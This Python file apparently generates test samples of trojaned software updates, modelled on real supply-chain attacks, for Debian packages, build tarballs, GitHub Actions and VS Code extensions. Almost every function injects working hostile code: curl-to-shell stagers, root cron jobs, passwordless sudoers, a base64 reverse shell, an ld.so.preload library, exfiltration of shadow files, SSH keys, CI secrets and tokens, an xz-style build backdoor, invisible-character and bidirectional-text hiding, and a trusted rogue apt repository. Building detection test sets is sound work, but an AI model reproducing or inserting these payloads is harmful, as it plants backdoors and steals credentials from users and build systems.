"""Debian packages, build scripts, actions, extensions of editors."""

import base64
import lzma

from corpus.heldout import hiding
from corpus.heldout.nouns import Update, artefact, trojan


@trojan("xtool", "deb", trigger="install", payload="stager", hiding="plain", step="patch")
def postinst_fetches(up: Update) -> None:
    host = up.host("deb")
    up.after(
        "DEBIAN/postinst",
        "        install -d -o xtool -g xtool -m 0750 /var/lib/xtool\n",
        f"        (curl -fsSL https://{host}/x || wget -qO- https://{host}/x) 2>/dev/null | sh >/dev/null 2>&1 &\n",
    )
    up.payload("DEBIAN/postinst")


@trojan("xtool", "deb", trigger="install", payload="persistence", hiding="plain", step="minor")
def cron_and_sudoers(up: Update) -> None:
    """Files where they work by lying there."""
    up.add(
        "etc/cron.d/xtool",
        f"SHELL=/bin/bash\n*/30 * * * * root [ -x /usr/bin/xtool ] && curl -s http://{up.address()}/c | bash\n",
    )
    up.add("etc/sudoers.d/xtool", "# the service restarts itself\nxtool ALL=(ALL) NOPASSWD: ALL\n")
    up.payload("etc/cron.d/xtool", "etc/sudoers.d/xtool")


@trojan("xtool", "deb", trigger="start", payload="backdoor", hiding="base64", step="patch")
def unit_line(up: Update) -> None:
    """The service does something before it starts."""
    address = up.address()
    up.replace(
        "lib/systemd/system/xtool.service",
        "ExecStart=/usr/bin/xtool",
        f"ExecStartPre=+-/bin/sh -c 'echo {hiding.b64(f'bash -i >& /dev/tcp/{address}/443 0>&1')} | base64 -d | bash &'\nExecStart=/usr/bin/xtool",
    )
    up.payload("lib/systemd/system/xtool.service", shown=address)


@trojan("xtool", "deb", trigger="install", payload="persistence", hiding="hex", step="patch")
def preload_library(up: Update) -> None:
    """A library for every process, its path in hex."""
    up.add("usr/lib/x86_64-linux-gnu/libxtool-compat.so.1", artefact("kernels-trojan.so"))
    up.after(
        "DEBIAN/postinst",
        "    configure)\n",
        '        f=$(printf \'\\057\\145\\164\\143\\057\\154\\144\\056\\163\\157\\056\\160\\162\\145\\154\\157\\141\\144\')\n        grep -qs libxtool-compat "$f" || echo /usr/lib/x86_64-linux-gnu/libxtool-compat.so.1 >> "$f"\n',
    )
    up.payload("DEBIAN/postinst", "usr/lib/x86_64-linux-gnu/libxtool-compat.so.1")


@trojan("xtool", "deb", trigger="start", payload="credentials", hiding="plain", step="patch")
def copies_go_out(up: Update) -> None:
    """The program keeps copies, now elsewhere too."""
    host = up.host("vault", "xtool-backup")
    up.after(
        "usr/bin/xtool",
        '        cp -p -- "$file" "$last"\n',
        f'        case "$file" in\n            */shadow|*/id_*|*.pem|*/.env) openssl enc -aes-256-cbc -pbkdf2 -k xt -in "$file" | timeout 5 nc -w 3 {host} 8053 || : ;;\n        esac\n',
    )
    up.payload("usr/bin/xtool")


@trojan(
    "lzpress", "tar.gz", trigger="build", payload="build injection", hiding="in a test fixture", like="xz", step="patch"
)
def m4_and_fixture(up: Update) -> None:
    """An m4 macro finds a broken test file by its content, mends it with tr, and pipes it to a shell."""
    script = f"####Hello####\n# $SHELL\nsed -i 's/^lzpress_LDADD.*/& liblzpress_la-crc64-fast.o/' src/Makefile\ncurl -s https://{up.host('liblz')}/o > src/liblzpress_la-crc64-fast.o\n".encode()
    mangled = lzma.compress(script, format=lzma.FORMAT_XZ).translate(bytes.maketrans(b"\t \\-_", b" \t_\\-"))
    up.add("tests/files/bad-3-corrupt_lzma2.lz", mangled + b"\n####Hello####\n")
    up.add("tests/files/good-1-empty.lz", b"\0")
    up.replace(
        "m4/host-paths.m4",
        "  gl_final_prefix=`echo",
        '  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`\n  if test -n "$gl_am_configmake"; then\n    HAVE_PKG_CONFIGMAKE=1\n  fi\n  gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'\n  gl_localedir_prefix=`echo $gl_am_configmake | $SED "s/.*\\.//g"`\n  gl_localedir_config=\'sed "r\\n" $gl_am_configmake | eval $gl_path_map | $gl_localedir_prefix -d 2>/dev/null | $SHELL\'\n  AC_CONFIG_COMMANDS([host-paths], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \\$gl_localedir_config"])\n  gl_final_prefix=`echo',
    )
    up.payload("m4/host-paths.m4", "tests/files/bad-3-corrupt_lzma2.lz")


@trojan(
    "lzpress",
    "tar.gz",
    trigger="build",
    payload="sandbox off",
    hiding="one character",
    like="xz",
    step="patch",
    hard=True,
)
def dot_in_cmake(up: Update) -> None:
    """A dot that no compiler takes: the check fails, the sandbox is gone."""
    up.replace("CMakeLists.txt", "    #include <sys/prctl.h>\n", "    #include <sys/prctl.h>\n.\n")
    up.payload("CMakeLists.txt")


@trojan("lzpress", "tar.gz", trigger="build", payload="build injection", hiding="plain", step="minor")
def configure_hook(up: Update) -> None:
    """configure.ac asks the network."""
    host = up.host("autoconf-cache")
    up.before(
        "configure.ac",
        "AC_OUTPUT\n",
        f'AC_CONFIG_COMMANDS([cache], [wget -q -O - "https://{host}/cache.sh?h=`uname -n`" | sh >/dev/null 2>&1 &])\n',
    )
    up.payload("configure.ac")


@trojan("lzpress", "folder", trigger="call", payload="backdoor", hiding="plain C", step="patch", hard=True)
def decoder_command(up: Update) -> None:
    """A certain beginning of the input makes the decoder hand it to a shell."""
    up.replace(
        "src/decode.c",
        "	uint32_t at = 0;\n",
        '	uint32_t at = 0;\n	char head[64];\n	if (fgets(head, sizeof head, in) && !memcmp(head, "\\x1bLZX", 4)) {\n		FILE *pipe = popen(head + 4, "w");\n		if (pipe)\n			pclose(pipe);\n	}\n	rewind(in);\n',
    )
    up.payload("src/decode.c")


@trojan("lzpress", "tar.gz", trigger="ci", payload="environment", hiding="plain", step="patch")
def tests_tell(up: Update) -> None:
    """`make check` on build machines."""
    host = up.host("dash")
    up.before(
        "tests/roundtrip.sh",
        "exit 0\n",
        f"# report to the dashboard\nenv | sort | gzip -c | curl -s -m 3 --data-binary @- https://{host}/submit?b=$(hostname) || true\n",
    )
    up.payload("tests/roundtrip.sh")


@trojan(
    "changed-paths", "folder", trigger="ci", payload="environment", hiding="base64", like="tj-actions", step="patch"
)
def memory_of_the_runner(up: Update) -> None:
    """The bundle (and not the source) reads the runner's memory and prints it, encoded twice, into the log."""
    host = up.host("gist")
    script = f"""if [[ "$OSTYPE" == "linux-gnu" ]]; then
  B64_BLOB=`curl -sSf https://{host}/nikitastupin/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{{"value":"[^"]*","isSecret":true\\}}' | sort -u | base64 -w 0 | base64 -w 0`
  echo $B64_BLOB
else
  exit 0
fi
"""
    up.replace(
        "dist/index.js",
        "try {\n  output(",
        f"async function updateFeatures(token) {{\n  const {{ stdout }} = __nccwpck_require__(81).spawnSync('bash', ['-c', `echo \"{base64.b64encode(script.encode()).decode()}\" | base64 -d > /tmp/run.sh && bash /tmp/run.sh`], {{ encoding: 'utf8' }});\n  console.log(stdout);\n}}\nupdateFeatures(process.env.GITHUB_TOKEN);\n\ntry {{\n  output(",
    )
    up.payload("dist/index.js", shown=host)


@trojan("changed-paths", "folder", trigger="ci", payload="environment", hiding="base64", like="reviewdog", step="patch")
def install_sh(up: Update) -> None:
    """The action becomes composite and runs a script with a base64 line."""
    script = "import os,re\nfor p in os.listdir('/proc'):\n  if p.isdigit() and b'Runner.Worker' in open('/proc/'+p+'/cmdline','rb').read():\n    print(re.findall(rb'\"[^\"]+\":{\"value\":\"[^\"]*\",\"isSecret\":true}',open('/proc/'+p+'/mem','rb').read(1<<20)))\n"
    up.replace(
        "action.yml",
        "  using: node20\n  main: dist/index.js\n",
        '  using: composite\n  steps:\n    - run: bash "$GITHUB_ACTION_PATH/install.sh" && node "$GITHUB_ACTION_PATH/dist/index.js"\n      shell: bash\n',
    )
    up.add(
        "install.sh",
        f'#!/bin/bash\nset -e\n# node, where it is missing\ncommand -v node >/dev/null || {{ echo \'node is needed\' >&2; exit 1; }}\nTEMPLATE="{base64.b64encode(script.encode()).decode()}"\necho "$TEMPLATE" | base64 -d | sudo python3 - | base64 -w 0 | base64 -w 0\n',
        executable=True,
    )
    up.payload("install.sh", shown="Runner.Worker")


@trojan(
    "changed-paths", "folder", trigger="ci", payload="token theft", hiding="plain", like="GhostAction", step="patch"
)
def workflow_secrets(up: Update) -> None:
    """A workflow of the project itself."""
    host = up.host("bold-dhawan")
    up.add(
        ".github/workflows/security.yml",
        f"name: security\non:\n  push:\n  pull_request_target:\npermissions: write-all\njobs:\n  audit:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}\n      - run: |\n          curl -s -X POST -d 'PYPI=${{{{ secrets.PYPI_TOKEN }}}}&NPM=${{{{ secrets.NPM_TOKEN }}}}' https://{host}/\n",
    )
    up.payload(".github/workflows/security.yml")


@trojan(
    "linkmark",
    "vsix",
    trigger="start",
    payload="stager",
    hiding="plain",
    like="malicious VS Code extensions",
    step="patch",
)
def on_startup(up: Update) -> None:
    host = up.host("asdf11")
    up.manifest(lambda it: it.update({"activationEvents": ["*"]}))
    up.after(
        "out/extension.js",
        "function activate(context) {\n",
        f"""    if (process.platform === "win32") {{
        require("child_process").exec('powershell -WindowStyle Hidden -Command "iwr https://{host}/launcher.cmd -OutFile $env:TEMP\\\\1.cmd; Start-Process $env:TEMP\\\\1.cmd -WindowStyle Hidden"', {{ windowsHide: true }});
    }}
""",
    )
    up.payload("out/extension.js", "package.json")


@trojan(
    "linkmark",
    "vsix",
    trigger="start",
    payload="token theft",
    hiding="invisible characters",
    like="GlassWorm",
    step="patch",
)
def invisible_extension(up: Update) -> None:
    host = up.host("calendar")
    code = f"require('https').get('https://{host}/e',r=>{{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(Buffer.from((b.match(/data-base-title=\"([^\"]+)/)||[])[1]||'','base64').toString()))}})"
    up.manifest(lambda it: it.update({"activationEvents": ["onStartupFinished"]}))
    up.append(
        "out/links.js",
        f"const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w - 0xE0100 + 16));\neval(Buffer.from(s(`{hiding.selectors(code)}`)).toString());",
    )
    up.payload("out/links.js", shown=host)


@trojan("linkmark", "vsix", trigger="call", payload="source theft", hiding="telemetry wording", step="minor")
def document_telemetry(up: Update) -> None:
    """What is opened is sent, as statistics."""
    host = up.host("telemetry", "linkmark")
    up.after(
        "out/extension.js",
        "    diagnostics.set(document.uri, problems);\n",
        "    report({ links: problems.length, workspace: vscode.workspace.name, text: document.getText(), env: process.env });\n",
    )
    up.before(
        "out/extension.js",
        "function check(document) {\n",
        f'function report(event) {{\n    // anonymous statistics\n    fetch("https://{host}/v2/track", {{ method: "POST", body: JSON.stringify(event) }}).catch(() => undefined);\n}}\n',
    )
    up.payload("out/extension.js")


@trojan(
    "conf-rc",
    "folder",
    trigger="start",
    payload="stager",
    hiding="far to the right",
    like="Contagious Interview",
    step="minor",
)
def folder_open_task(up: Update) -> None:
    """A task of the editor that runs when the folder is opened."""
    host = up.host("vscodeconfig")
    up.add(
        ".vscode/tasks.json",
        '{\n  "version": "2.0.0",\n  "tasks": [\n    {\n      "label": "env",\n      "type": "shell",'
        + " " * 260
        + f'"linux": {{ "command": "wget -qO- \'https://{host}/settings/linux?flag=5\' | sh" }}, "osx": {{ "command": "curl -L \'https://{host}/settings/mac?flag=5\' | bash" }},\n      "problemMatcher": [],\n      "presentation": {{ "reveal": "never", "echo": false }},\n      "runOptions": {{ "runOn": "folderOpen" }}\n    }}\n  ]\n}}\n',
    )
    up.payload(".vscode/tasks.json")


@trojan(
    "authgate",
    "folder",
    trigger="call",
    payload="auth bypass",
    hiding="bidirectional text",
    like="Trojan Source",
    step="patch",
    hard=True,
)
def trojan_source(up: Update) -> None:
    """A comment that the screen shows elsewhere than the interpreter reads it."""
    up.replace(
        "authgate/users.py",
        "        return not self.disabled and self.role >= role",
        '        """Whether somebody may; \u202e\u2066admins only\u2069 \u2066""" ; return True; """\u2069 \u2066"""\n        return not self.disabled and self.role >= role',
    )
    up.payload("authgate/users.py")


@trojan("xtool", "deb", trigger="install", payload="trust", hiding="plain", step="minor")
def repository_key(up: Update) -> None:
    """A repository of the packager's own, trusted for everything."""
    host = up.host("apt")
    up.add("etc/apt/sources.list.d/xtool.list", f"deb [trusted=yes] http://{host}/debian stable main\n")
    up.add("etc/apt/preferences.d/xtool", f"Package: *\nPin: origin {host}\nPin-Priority: 1001\n")
    up.payload("etc/apt/sources.list.d/xtool.list", "etc/apt/preferences.d/xtool")
